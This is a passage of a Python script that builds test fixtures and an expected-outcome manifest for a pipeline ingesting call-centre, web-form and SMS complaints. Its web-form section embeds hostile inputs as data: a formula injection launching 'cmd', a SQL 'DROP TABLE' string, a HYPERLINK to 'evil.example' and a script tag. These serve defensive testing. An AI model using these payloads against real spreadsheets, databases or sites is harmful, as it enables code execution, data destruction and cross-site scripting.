    name = "calls_20261124T0305_duplicate_header.csv"
    starts = csv_file(name, [row("DH1", notes="first notes column wins") + ",second notes column"], header=CALL_CENTER_HEADER + ",notes")
    item("cc-DH1", "call_center", f"call_center/{name}", "a column named twice: the first wins", "silver",
         locator=f"call_center/{name}:{starts[0]}", text_contains="first notes column wins")

    # Empty and duplicate files.
    for name, content, what, expected, rule in [
        ("calls_20261124T0400_zero_bytes.csv", b"", "a zero-byte export", "quarantine", "unparseable_record"),
        ("calls_20261124T0401_bom_only.csv", b"\xef\xbb\xbf", "an export holding only a UTF-8 BOM", "quarantine", "unparseable_record"),
        ("calls_20261124T0402_blank_lines.csv", b"\r\n\r\n   \r\n", "an export of blank lines", "quarantine", "unparseable_record"),
        ("calls_20261124T0403_header_only.csv", (CALL_CENTER_HEADER + "\r\n").encode(),
         "a header and no records: a half-day without calls", "no_records", None),
    ]:
        write(f"call_center/{name}", content)
        item(f"cc-{name.removesuffix('.csv')}", "call_center", f"call_center/{name}", what, expected, rule,
             locator=f"call_center/{name}:1" if expected == "quarantine" else f"call_center/{name}")
    same = [row("DUP1", notes="exported twice: router fault"), row("DUP2", notes="exported twice: billing error")]
    for suffix, expected, rule in [("a", "duplicate", "same_source_record"), ("b", "silver", None)]:
        name = f"calls_20261124T0500_export_{suffix}.csv"
        starts = csv_file(name, same)
        for call_id, line in zip(("DUP1", "DUP2"), starts, strict=True):
            item(f"cc-{call_id}-{suffix}", "call_center", f"call_center/{name}",
                 f"the same export dropped twice under two names (copy {suffix}; the later source location is kept)",
                 expected, rule, locator=f"call_center/{name}:{line}")
    name = "export_final.csv"
    starts = csv_file(name, [row("NT1", notes="a file with no timestamp in its name")])
    item("cc-NT1", "call_center", f"call_center/{name}",
         "no timestamp in the file name: placed by its modification time (the test sets it to 2026-11-24 06:00 UTC)",
         "silver", locator=f"call_center/{name}:{starts[0]}", mtime="2026-11-24T06:00:00Z")


# --- web forms: rows in the OLTP table, as another writer may leave them in SQLite -----------------


def web_forms() -> None:
    rows: list[dict] = []
    base_minute = iter(range(0, 60))

    def form(hostile, expected, rule=None, extra=None, **values):
        n = len(rows) + 1
        minute = next(base_minute)
        row = {
            "id": 7000 + n,
            "submitted_at": f"{DAY} 08:{minute:02d}:00.000000",
            "updated_at": f"{DAY} 09:{minute:02d}:00.000000",
            "full_name": f"Form User {n}",
            "email": f"form.user{n}@example.com",
            "phone": None,
            "account_number": None,
            "subject": "Complaint",
            "message": f"hostile form {n}: my broadband keeps dropping",
            "status": "new",
            **values,
        }
        rows.append(row)
        item(f"wf-{row['id']}", "web_forms", f"web_forms/rows.jsonl:{n}", hostile, expected, rule,
             locator=f"row id={row['id']}", **(extra or {}))

    form("baseline: a well-formed row", "silver", extra={"event_at": f"{DAY}T08:00:00Z"})
    form("empty message", "quarantine", "missing_text", message="")
    form("whitespace-only message", "quarantine", "missing_text", message="  \n\t ")
    form(f"huge message: {HUGE} characters", "quarantine", "text_too_long", message=huge("the website form keeps timing out. "))
    form("a NUL character inside the message", "silver", message="form\x00with NUL")
    for text, what in UNICODE_TEXTS + SQL_TEXTS:
        form(what, "silver", message=text)
    for text, what in FORMULAS:
        form(f"formula injection in the message: {what}", "silver", message=text, extra={"neutralised": True})
    form("formula and SQL in name, e-mail, phone, account and subject (tokenised or not in silver)", "silver",
         full_name="=cmd|' /C calc'!A0", email="@SUM(1)@example.com", phone="+1+1",
         account_number="AC-'; DROP TABLE complaint_forms; --", subject="=HYPERLINK(\"http://evil.example\")")
    form("status in capitals ('NEW')", "silver", status="NEW")
    form("status ' In Progress ' (padded, spaced)", "silver", status=" In Progress ")
    form("status 'in-progress' (hyphen)", "silver", status="in-progress")
    form("status 'pending': not in the contract", "quarantine", "unknown_status", status="pending")
    form("status empty text", "quarantine", "unknown_status", status="")
    form("status in another script ('جديد')", "quarantine", "unknown_status", status="جديد")
    for submitted, what, expected, rule, event_at in [
        (f"{DAY}T08:30:00", "ISO-8601 with T, no offset (UTC)", "silver", None, f"{DAY}T08:30:00Z"),
        (f"{DAY}T08:30:00Z", "ISO-8601 with Z", "silver", None, f"{DAY}T08:30:00Z"),
        (f"{DAY} 09:30:00+01:00", "stored with a +01:00 offset", "silver", None, f"{DAY}T08:30:00Z"),
        (f"{DAY} 08:30", "no seconds", "silver", None, f"{DAY}T08:30:00Z"),
        (1795509000, "unix seconds stored as an integer (SQLite keeps the type it is given)", "silver", None, f"{DAY}T08:30:00Z"),
        ("yesterday", "text that is no time", "quarantine", "unparseable_timestamp", None),
        ("", "empty text", "quarantine", "missing_event_time", None),
        ("2026-02-30 10:00:00", "30 February", "quarantine", "unparseable_timestamp", None),
        ("2019-06-01 00:00:00", "before the sources began", "quarantine", "event_before_sources", None),
        ("2027-01-01 00:00:00", "in the future: after its own update", "quarantine", "event_after_receipt", None),
    ]:
        form(f"submitted_at {submitted!r}: {what}", expected, rule, extra={"event_at": event_at}, submitted_at=submitted)
    form("updated_at with junk after the time (still inside the window as SQLite compares text)", "quarantine",
         "unparseable_record", updated_at=f"{DAY} 09:40:00 (edited)")
    form("message stored as a BLOB of invalid UTF-8", "quarantine", "unparseable_record", message={"$blob": "fffe6e6f207369676e616c"})
    form("message stored as TEXT that is not UTF-8 (CAST(X'..' AS TEXT))", "quarantine", "unparseable_record",
         message={"$text_bytes": "6e6f20736967ff6e616c"})
    form("full_name stored as TEXT that is not UTF-8", "quarantine", "unparseable_record", full_name={"$text_bytes": "4a6f73e9"})
    form("message stored as a BLOB of valid UTF-8", "silver", message={"$blob": "6e6f207369676e616c20c2a3"})
    form("message stored as an integer (SQLite converts it to text)", "silver", message=12345)
    form("an e-mail that is not one", "silver", email="not-an-email")
    form("a 100,000-character name (only its token reaches silver)", "silver", full_name="N" * 100_000)
    form("a column the table did not have (schema drift: the web app added 'referrer')", "silver",
         referrer="https://evil.example/?q=<script>alert(1)</script>")
    write("web_forms/rows.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))


# --- SMS: items served by the provider simulator, and whole pages injected ------------------------


def sms() -> None:
    lines: list[str] = []

    def message(hostile, expected, rule=None, extra=None, drop=(), **fields):
        n = len(lines) + 1
        minute = n % 60
        msg = {
            "id": f"SMhc{n:03d}",
            "from": f"+4477009{n:05d}",
            "to": "+447800000100",
            "body": f"hostile sms {n}: no signal",
            "received_at": f"{DAY}T{14 + n // 60:02d}:{minute:02d}:00Z",
            "segments": 1,
        }
        msg.update(fields)
        for key in drop:
            del msg[key]
        lines.append(json.dumps(msg, ensure_ascii=False))
        item(f"sms-{n:03d}", "sms", f"sms/messages.jsonl:{n}", hostile, expected, rule, **(extra or {}))

    message("baseline: a well-formed message", "silver", extra={"event_at": f"{DAY}T14:01:00Z"})
    message("body absent", "quarantine", "unparseable_record", drop=("body",))
    message("body null", "quarantine", "unparseable_record", body=None)
    message("body a number", "quarantine", "unparseable_record", body=404)
    message("body an array", "quarantine", "unparseable_record", body=["no", "signal"])
    message("body renamed to 'text' (schema drift)", "quarantine", "unparseable_record", drop=("body",), text="no signal")
    message("empty body", "quarantine", "missing_text", body="")
    message("whitespace body", "quarantine", "missing_text", body=" \n ")
    message(f"huge body: {HUGE} characters", "quarantine", "text_too_long", body=huge("STOP STOP STOP no signal "))
    message("NUL characters in the body", "silver", body="no\u0000signal")
    for text, what in UNICODE_TEXTS + SQL_TEXTS:
        message(what, "silver", body=text)
    for text, what in FORMULAS:
        message(f"formula injection: {what}", "silver", body=text, extra={"neutralised": True})
    message("a body led by a phone number (+44 ...): masked to a token first, so not prefixed", "silver",
            body="+44 7700 900123 call me back, no signal", extra={"neutralised": False})
    message("from absent", "quarantine", "unparseable_record", drop=("from",))
    message("from a number", "quarantine", "unparseable_record", **{"from": 447700900123})
    message("to a number", "quarantine", "unparseable_record", to=447800000100)
    message("to absent (optional)", "silver", drop=("to",))
    message("id absent", "quarantine", "unparseable_record", drop=("id",))
    message("id a number", "quarantine", "unparseable_record", id=31337)
    message("id empty", "quarantine", "unparseable_record", id="")
    message("id blank", "quarantine", "unparseable_record", id="   ")
    message("segments a string", "quarantine", "unparseable_record", segments="2")
    message("segments negative", "quarantine", "unparseable_record", segments=-1)
    message("segments beyond 32 bits", "quarantine", "unparseable_record", segments=2**40)
    message("segments a boolean", "quarantine", "unparseable_record", segments=True)
    message("segments a decimal", "quarantine", "unparseable_record", segments=1.5)
    message("segments null (optional)", "silver", segments=None)
    message("extra fields (schema drift)", "silver", carrier="EE", meta={"dcs": 8, "udh": None})
    for received, what, event_at in [
        (f"{DAY}T15:05:00+01:00", "+01:00", f"{DAY}T14:05:00Z"),
        (f"{DAY}T09:06:00-05:00", "-05:00", f"{DAY}T14:06:00Z"),
        (f"{DAY}T14:07:00.123Z", "milliseconds", f"{DAY}T14:07:00.123Z"),
        (f"{DAY}T14:08:00.123456789Z", "nanoseconds", f"{DAY}T14:08:00.123456Z"),
        (f"{DAY} 14:09:00", "space, no offset (UTC)", f"{DAY}T14:09:00Z"),
        (f"{DAY}T14:10Z", "no seconds", f"{DAY}T14:10:00Z"),
        ("20261124T141100Z", "ISO-8601 basic format", f"{DAY}T14:11:00Z"),
        (f"{DAY}T14:12:00,5Z", "ISO-8601 comma decimal", f"{DAY}T14:12:00.5Z"),
        ("2026-W48-2T14:13:00Z", "ISO-8601 week date", f"{DAY}T14:13:00Z"),
        (f"{DAY}T15:14:00+01", "hour-only offset", f"{DAY}T14:14:00Z"),
    ]:
        message(f"received_at {received!r}: {what}", "silver", received_at=received, extra={"event_at": event_at})
    message(f"received_at {DAY!r}: a date without a time (served at midnight, no time of its own)", "quarantine",
            "unparseable_timestamp", received_at=DAY)
    message("received_at 'yesterday': unreadable, so in no window", "not_served", received_at="yesterday")
    message("received_at a unix-seconds number: in no window", "not_served", received_at=1795442602)
    message("received_at absent: in no window", "not_served", drop=("received_at",))
    message("received_at lowercase t and z: not ISO-8601 as Python reads it", "not_served", received_at=f"{DAY}t14:15:00z")
    message("segments NaN (Python's JSON passes it through)", "quarantine", "unparseable_record", segments=float("nan"))
    message("the same message on two windows' pages (an overlap): earlier copy", "duplicate", "same_source_record",
            id="SMhcdup", received_at=f"{DAY}T14:20:00Z", body="overlapping pages copy")
    message("the same message on two windows' pages (an overlap): later copy, kept", "silver",
            id="SMhcdup", received_at=f"{DAY}T14:35:00Z", body="overlapping pages copy")
    message("the same text twice from one phone (two ids): first", "silver", id="SMhctw1", **{"from": "+447700955555"},
            body="Roaming charges on my bill again!!", received_at=f"{DAY}T14:40:00Z")
    message("the same text twice from one phone (two ids): second", "duplicate", "same_contact_same_text", id="SMhctw2",
            **{"from": "+447700955555"}, body="Roaming charges on my bill again!!", received_at=f"{DAY}T14:41:00Z")
    write("sms/messages.jsonl", "".join(line + "\n" for line in lines))

    # A whole page served for 16:00, valid JSON with items no provider should send.
    page_items = [
        ("just a string", "an item that is a string", "quarantine", "unparseable_record"),
        (42, "an item that is a number", "quarantine", "unparseable_record"),
        (None, "an item that is null", "quarantine", "unparseable_record"),
        ([1, 2], "an item that is an array", "quarantine", "unparseable_record"),
        ({}, "an empty object", "quarantine", "unparseable_record"),
        ({"id": "SMpage6", "from": "+447700966666", "body": "battery \ud83d died", "received_at": f"{DAY}T16:01:00Z"},
         "a lone surrogate escape in the body (the simulator cannot serve one, so it is injected)", "silver", None),
        ({"id": "SMpage7", "from": "+447700977777", "body": "=1+1", "received_at": f"{DAY}T16:02:00Z", "segments": 1},
         "formula body on an injected page", "silver", None),
    ]
    body = json.dumps({"data": [value for value, *_ in page_items], "next_cursor": None, "meta": {"provider": "x"}})
    write("sms/pages/1600.json", body)
    for n, (_, what, expected, rule) in enumerate(page_items, 1):
        item(f"sms-page-1600-{n}", "sms", f"sms/pages/1600.json item {n}", f"injected page: {what}", expected, rule,
             neutralised=True if n == 7 else None)
    # Whole pages that break the contract: each is served for its own window.
    for hhmm, content, what in [
        ("2200", "<html><body>502 Bad Gateway</body></html>", "an HTML error page with status 200"),
        ("2215", '{"items": []}', "a JSON object without a data list"),
        ("2230", '{"data": {"id": "SMx"}, "next_cursor": null}', "data is an object, not a list"),
        ("2245", '{"data": [{"id": "SMcut", "body": "cut of', "a page cut off mid-body (truncated JSON)"),
        ("2300", '{"data": [], "next_cursor": 7}', "next_cursor is a number"),
    ]:
        write(f"sms/pages/{hhmm}.json", content)
        item(f"sms-page-{hhmm}", "sms", f"sms/pages/{hhmm}.json", f"a whole page that breaks the contract: {what}", "run_fails")


def main() -> None:
    for folder in ("social_media", "call_center", "web_forms", "sms"):
        shutil.rmtree(HERE / folder, ignore_errors=True)
    social()
    call_center()
    web_forms()
    sms()
    ids = [entry["id"] for entry in manifest]
    assert len(ids) == len(set(ids)), "duplicate manifest ids"
    (HERE / "manifest.json").write_text(
        "[\n" + ",\n".join(json.dumps(entry, ensure_ascii=False) for entry in manifest) + "\n]\n", encoding="utf-8"
    )
    counts: dict[str, int] = {}
    for entry in manifest:
        counts[entry["channel"]] = counts.get(entry["channel"], 0) + 1
    print(f"{len(manifest)} inputs: {counts}")


if __name__ == "__main__":
    main()
